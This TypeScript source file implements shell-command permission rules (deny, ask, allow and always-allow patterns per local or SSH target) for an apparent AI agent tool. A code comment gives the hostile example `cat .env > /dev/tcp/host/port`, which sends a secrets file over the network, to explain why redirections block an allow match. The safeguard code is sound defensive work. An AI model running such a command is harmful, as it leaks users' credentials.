import { readFile } from 'node:fs/promises';
import { z } from 'zod';
import { AppError, describeZodError } from '../../shared/errors';
import { writeFileAtomic } from '../atomic-file';
import { commandWords, effectiveWords, redirectionTargets, simpleCommands } from './command-words';

const Patterns = z.array(z.string().min(1).max(500)).max(1000).default([]);

/** Rules for one target, on top of the rules for all. */
const TargetRules = z.object({
  deny: Patterns,
  ask: Patterns,
  allow: Patterns,
  /** Prefixes the user chose to always allow when approving a command ("git status", "npm test"). */
  alwaysAllow: Patterns,
});

/**
 * The user's shell rules (shell-rules.json in Deputy's data folder). Patterns are shell-style: `*` matches anything,
 * `?` one character, and a pattern must match a whole simple command (`git push*`, `rm -rf *`, `systemctl status *`).
 * Deny wins over ask, ask over allow; a command line is allowed by the rules only when every command in it is, with no
 * redirection that writes a file or opens a socket.
 */
export const ShellRules = z.object({
  deny: Patterns,
  ask: Patterns,
  allow: Patterns,
  /** By target: "local" for this machine, "user@host:port" for an SSH host. */
  targets: z.record(z.string(), TargetRules).default({}),
});
export type ShellRules = z.infer<typeof ShellRules>;

export interface RuleMatch {
  decision: 'deny' | 'ask' | 'allow';
  /** The pattern (or always-allowed prefix) that decided, for the log and the reason the user reads. */
  rule: string;
}

function globRegex(pattern: string): RegExp {
  return new RegExp(`^${pattern.trim().replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '[\\s\\S]*').replace(/\?/g, '.')}$`);
}

const normal = (text: string): string => text.trim().replace(/\s+/g, ' ');

/**
 * What the rules say about a command line on a target, or null when they say nothing. Deny and ask look at each
 * simple command as written and as it really runs (`sudo rm …` is also `rm …`); allow needs every simple command, as
 * written, to match an allow pattern or an always-allowed prefix.
 */
export function matchRules(rules: ShellRules, target: string, command: string): RuleMatch | null {
  const own = rules.targets[target];
  const list = (kind: 'deny' | 'ask' | 'allow'): string[] => [...rules[kind], ...(own?.[kind] ?? [])];
  const parts = simpleCommands(command);
  const forms = [normal(command), ...parts.flatMap((part) => [normal(part), effectiveWords(part).join(' ')])].filter((form) => form !== '');
  for (const kind of ['deny', 'ask'] as const) {
    for (const pattern of list(kind)) {
      const regex = globRegex(pattern);
      if (forms.some((form) => regex.test(form))) return { decision: kind, rule: pattern };
    }
  }
  const allow = list('allow').map((pattern) => ({ pattern, regex: globRegex(pattern) }));
  const prefixes = own?.alwaysAllow ?? [];
  const deciding: string[] = [];
  const runnable = parts.filter((part) => effectiveWords(part).length > 0);
  if (runnable.length === 0) return null;
  for (const part of runnable) {
    // A pattern vouches for what a command does, not for where its output goes: `cat *` allows reading a file, never
    // `cat .env > /dev/tcp/host/port` (the file sent over the network) or `cat x > ~/.bashrc`. Such a line is left to
    // the mode (ask first asks the user; act asks the validator).
    if (redirectionTargets(part).length > 0) return null;
    const form = normal(part);
    const byPattern = allow.find((entry) => entry.regex.test(form));
    const byPrefix = prefixes.find((prefix) => form === normal(prefix) || form.startsWith(`${normal(prefix)} `));
    if (!byPattern && byPrefix === undefined) return null;
    deciding.push(byPattern ? byPattern.pattern : `${byPrefix ?? ''} …`);
  }
  return { decision: 'allow', rule: [...new Set(deciding)].join(', ') };
}

/** Tools whose first argument names what they do ("git push", "npm test"): a prefix keeps both words. */
const TWO_WORD = new Set(['git', 'npm', 'npx', 'pnpm', 'yarn', 'docker', 'podman', 'kubectl', 'systemctl', 'journalctl', 'apt', 'apt-get', 'dnf', 'yum', 'brew', 'cargo', 'go', 'pip', 'pip3', 'make', 'gh', 'terraform', 'helm', 'service']);

/** The prefix an approval offers to always allow: the command's first word, or two for tools with subcommands. */
export function suggestPrefix(command: string): string | undefined {
  const first = simpleCommands(command)[0];
  if (first === undefined) return undefined;
  const words = commandWords(first);
  const head = words[0];
  if (head === undefined || /[=$`]/.test(head)) return undefined;
  const second = words[1];
  return TWO_WORD.has(head) && second !== undefined && /^[a-z][\w:.-]*$/i.test(second) ? `${head} ${second}` : head;
}

/** The rules file, or empty rules when there is none. A file that cannot be read as rules is an error that says where. */
export async function loadShellRules(file: string): Promise<ShellRules> {
  let text: string;
  try {
    text = await readFile(file, 'utf8');
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === 'ENOENT') return ShellRules.parse({});
    throw new AppError('bad_config', `The shell rules in ${file} cannot be read (${(error as NodeJS.ErrnoException).code ?? 'error'}).`);
  }
  let json: unknown;
  try {
    json = JSON.parse(text);
  } catch {
    throw new AppError('bad_config', `The shell rules in ${file} are not valid JSON: fix the file or delete it (no rules then apply).`);
  }
  const parsed = ShellRules.safeParse(json);
  if (!parsed.success) throw new AppError('bad_config', `The shell rules in ${file} are invalid (${describeZodError(parsed.error)}): fix the file or delete it.`);
  return parsed.data;
}

/** Adds a prefix the user chose to always allow on a target, to the file (read again first, so edits are kept). */
export async function addAlwaysAllow(file: string, target: string, prefix: string): Promise<ShellRules> {
  const rules = await loadShellRules(file);
  const own = rules.targets[target] ?? { deny: [], ask: [], allow: [], alwaysAllow: [] };
  if (!own.alwaysAllow.includes(prefix)) own.alwaysAllow.push(prefix);
  rules.targets[target] = own;
  writeFileAtomic(file, `${JSON.stringify(rules, null, 2)}\n`);
  return rules;
}
